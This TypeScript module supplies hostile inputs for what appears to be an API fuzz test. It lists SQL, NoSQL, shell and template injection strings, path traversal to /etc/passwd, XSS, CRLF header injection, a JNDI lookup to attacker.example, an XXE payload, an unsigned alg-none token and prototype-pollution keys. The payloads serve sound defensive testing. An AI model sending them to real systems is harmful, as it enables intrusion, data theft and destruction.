import { type IdKind, idPrefixes, newId } from '../../src/platform/ids.ts';

/**
 * The hostile inputs the fuzz test throws at every operation: what attackers and broken clients
 * send. Kept as data so a reader can see exactly what the API was proven against; the request
 * builder (requests.ts) places them in bodies, path segments, query strings and headers.
 */

/** JSON text that JSON.stringify cannot produce (numbers beyond doubles, negative zero). */
export class RawJson {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

/** Injection payloads for SQL, NoSQL, shells, template engines, paths, HTML, logs and LDAP/JNDI. */
export const injectionStrings: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE accounts; --",
  "1' AND pg_sleep(5) IS NULL --",
  "' UNION SELECT password_hash FROM customers --",
  '" OR ""="',
  '\\',
  "'",
  '%',
  '_',
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  '; cat /etc/passwd',
  '$(id)',
  '`id`',
  '| id',
  '&& id',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literal on purpose
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd\u0000.png',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '\r\nSet-Cookie: session=stolen',
  '\nlevel=info msg="forged log line"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literal on purpose
  '${jndi:ldap://attacker.example/a}',
  '%s%s%s%n',
  '*)(uid=*))(|(uid=*',
  '__proto__',
  'constructor',
];

/** Unicode that breaks naive code: NUL, bidi overrides, zero-width, lone surrogates, normalisation traps. */
export const unicodeStrings: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[2J',
  '\u202egnp.exe',
  'zero\u200bwidth\u200d\u2060',
  '\ufeffbom',
  '\ud800',
  'a\udfffb',
  '\ud83d',
  '😀👨‍👩‍👧‍👦',
  'Z̴̡̛̗a̶̢͚l̷̨g̵o̸',
  'ﬃİßǅ',
  '\u2028\u2029',
  'مرحبا',
  '١٢٣٫٤٥',
  '１２３．４５',
  '\u{10ffff}',
  ' ',
  '',
];

/** Numbers as text: what a string field holding an amount, a limit or a count must survive. */
export const numericStrings: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '-1e309',
  '1e-400',
  '9223372036854775807',
  '9223372036854775808',
  '-9223372036854775809',
  '18446744073709551616',
  '0x10',
  '1_000',
  '1,000.00',
  ' 1',
  '1 ',
  '+1',
  '-1',
  '0',
  '0.000000000000000000001',
  '99999999999999999999999999999999.99',
  '1.5',
  '.5',
  '5.',
  '1e3',
];

/** Lengths past every field limit, and a body past the 64 KiB limit on its own. */
export const hugeStrings: readonly string[] = [
  'A'.repeat(257),
  'é'.repeat(5_000),
  '😀'.repeat(3_000),
  '\u0000'.repeat(100),
  'x'.repeat(70_000),
];

/** Numbers that JSON can carry but JavaScript, PostgreSQL or int64 cannot all hold. */
export const hostileNumbers: readonly RawJson[] = [
  '1e309',
  '-1e309',
  '-0',
  '9223372036854775808',
  '-9223372036854775809',
  '18446744073709551616',
  '1e-400',
  '123456789012345678901234567890.123456789',
  '1.0',
  '0.1',
  '-1',
  '2147483648',
].map((text) => new RawJson(text));

/** Builds `{"a":{"a":…}}` or `[[…]]` nested `depth` levels. */
export function nested(depth: number, kind: 'object' | 'array'): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = kind === 'object' ? { a: value } : [value];
  return value;
}

/** Wrong types, deep nesting, huge arrays and objects, NoSQL operators and prototype keys. */
export const hostileStructures: readonly unknown[] = [
  null,
  true,
  false,
  0,
  [],
  {},
  [null],
  { $gt: '' },
  { $ne: null },
  Object.fromEntries([['__proto__', { polluted: true }]]),
  { constructor: { prototype: { polluted: true } } },
  nested(20, 'object'),
  nested(20, 'array'),
  new RawJson(`${'['.repeat(5_000)}${']'.repeat(5_000)}`),
  Array.from({ length: 20_000 }, () => 0),
  Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`k${i}`, i])),
];

/** Whole bodies that are not the JSON a route expects. */
export const hostileRawBodies: readonly string[] = [
  '',
  '{',
  '{"a":1,}',
  "{'a':1}",
  'null',
  '[]',
  '"text"',
  '1e309',
  'NaN',
  '\ufeff{}',
  '{"a":1}{"a":2}',
  '{"__proto__":{"polluted":true}}',
  `${'{"a":'.repeat(17)}1${'}'.repeat(17)}`,
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  `${'['.repeat(70_000)}`,
  `[${Array.from({ length: 30_000 }, () => '0').join(',')}]`,
  'email=a%40b.c&password=x',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '\u0000\u0001\u0002',
];

/** Content-Type headers a client might wrongly or maliciously send. */
export const hostileContentTypes: readonly string[] = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/JSON',
  'application/json;;',
  'application/vnd.api+json',
  'application/merge-patch+json',
  '*/*',
  'application/json, text/plain',
  'json',
  ';',
  '',
];

/** Idempotency-Key headers that are missing in spirit, too long, or not visible ASCII. */
export const hostileIdempotencyKeys: readonly string[] = [
  '',
  ' ',
  '\t',
  'a'.repeat(256),
  'a'.repeat(10_000),
  'key with spaces',
  'cl\u00e9',
  "' OR '1'='1",
  'fuzz-reused-key',
];

/** Authorization headers that are not a valid access token. */
export const hostileAuthorizations: readonly string[] = [
  'Bearer',
  'Bearer ',
  'Bearer x',
  'Bearer a.b.c',
  'bearer x.y.z',
  'Basic YWRtaW46YWRtaW4=',
  'DPoP eyJhbGciOiJub25lIn0.e30.',
  // An unsigned token (alg none) claiming to be a customer.
  `Bearer ${Buffer.from('{"alg":"none","typ":"at+jwt"}').toString('base64url')}.${Buffer.from('{"sub":"cus_01jf8x9k2m3n4p5q6r7s8t9v0w","client_id":"nextgen-mobile"}').toString('base64url')}.`,
  `Bearer ${'a'.repeat(10_000)}`,
];

/**
 * Cursors shaped like the API's own (base64url of `time|id`) but with impossible dates, hostile
 * ids or no separator, plus plain garbage: the decoder must refuse each with a 400.
 */
export const hostileCursors: readonly string[] = [
  '2024-13-45T25:61:61.000000|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  '9999-12-31T23:59:59.999999|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  '0001-01-01T00:00:00.000000|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  '2024-02-30T00:00:00.000000|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  '2023-02-29T00:00:00.000000|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  '2024-00-10T00:00:00.000000|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  '2024-04-31T24:00:00.000000|acc_01jf8x9k2m3n4p5q6r7s8t9v0w',
  "2024-01-01T00:00:00.000000|acc_' OR 1=1 --",
  '2024-01-01T00:00:00.000000',
  '|',
]
  .map((text) => Buffer.from(text).toString('base64url'))
  .concat(['!!!!', '====', '-1', 'a'.repeat(200), 'a'.repeat(201), '%00']);

/** Timestamps JavaScript, PostgreSQL and ISO 8601 disagree about: impossible, out of range, odd zones. */
export const hostileTimestamps: readonly string[] = [
  '2024-13-45T25:61:61Z',
  '2024-02-30T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '2024-01-01T00:00:00+25:00',
  '2024-01-01T24:00:00Z',
  // ajv-formats accepts these (leap seconds, an offset without minutes); Date cannot parse them.
  '2026-12-31T23:59:60Z',
  '2026-06-30T23:59:60.999Z',
  '2026-12-31T20:59:60-03:00',
  '2024-01-01T00:00:00+05',
  '2024-01-01t00:00:00z',
  '2024-01-01 00:00:00Z',
  '0000-02-29',
  '2024-01-01',
  '1970-01-01T00:00:00.0000000001Z',
  'now',
  'infinity',
  '-infinity',
  'epoch',
];

/** Well-formed ids of every kind the platform issues, so a route meets ids of the wrong kind. */
export function idsOfEveryKind(): string[] {
  return (Object.keys(idPrefixes) as IdKind[]).map((kind) => newId(kind));
}

/** Path segments, already percent-encoded, that break routers, decoders and id checks. */
export const hostileRawSegments: readonly string[] = [
  '%',
  '%ZZ',
  '%00',
  '.',
  '..',
  '%2e%2e',
  '..%2F..%2Fetc%2Fpasswd',
  'a%2Fb',
  '%C0%AE%C0%AE',
  '%ED%A0%80',
  '%FF%FE',
  '%20',
  '+',
  ';',
  '*',
  'ACC_01JF8X9K2M3N4P5Q6R7S8T9V0W',
  'acc_01jf8x9k2m3n4p5q6r7s8t9v0w%00',
  'acc_01jf8x9k2m3n4p5q6r7s8t9v0w%20',
  'acc_01jf8x9k2m3n4p5q6r7s8t9v0w;drop',
  'a'.repeat(201),
  'a'.repeat(5_000),
];

/**
 * One representative of each attack on free text (quotes, escapes, wildcards, NUL, lone surrogates,
 * bidi, templates, traversal, markup, header injection, emoji, lengths past every limit, blanks):
 * the deterministic sweep puts each into every text field and parameter.
 */
export const freeTextSweep: readonly string[] = [
  "' OR '1'='1",
  '\\',
  '%',
  '_',
  'a\u0000b',
  '\ud800',
  '\u202egnp.exe',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literal on purpose
  '${7*7}',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '\r\nSet-Cookie: session=stolen',
  '😀👨‍👩‍👧‍👦',
  'A'.repeat(257),
  'é'.repeat(5_000),
  '',
  ' ',
];

/** Every hostile string, for any string field, parameter or segment. */
export const hostileStrings: readonly string[] = [
  ...injectionStrings,
  ...unicodeStrings,
  ...numericStrings,
  ...hugeStrings,
];

/**
 * Percent-encodes text for a URL the way a careless client would: lone surrogates become the
 * (invalid) UTF-8 bytes of the code unit instead of making encodeURIComponent throw.
 */
export function encodeUrlText(text: string): string {
  let out = '';
  for (const char of text) {
    const unit = char.charCodeAt(0);
    if (char.length === 1 && unit >= 0xd800 && unit <= 0xdfff) {
      out +=
        `%${(0xe0 | (unit >> 12)).toString(16)}%${(0x80 | ((unit >> 6) & 0x3f)).toString(16)}%${(0x80 | (unit & 0x3f)).toString(16)}`.toUpperCase();
    } else out += encodeURIComponent(char);
  }
  return out;
}

/** True when a header value could reach the server at all (HTTP parsers drop CR, LF and NUL). */
export function isSendableHeader(value: string): boolean {
  return /^[\t\x20-\x7e\x80-\xff]*$/.test(value);
}
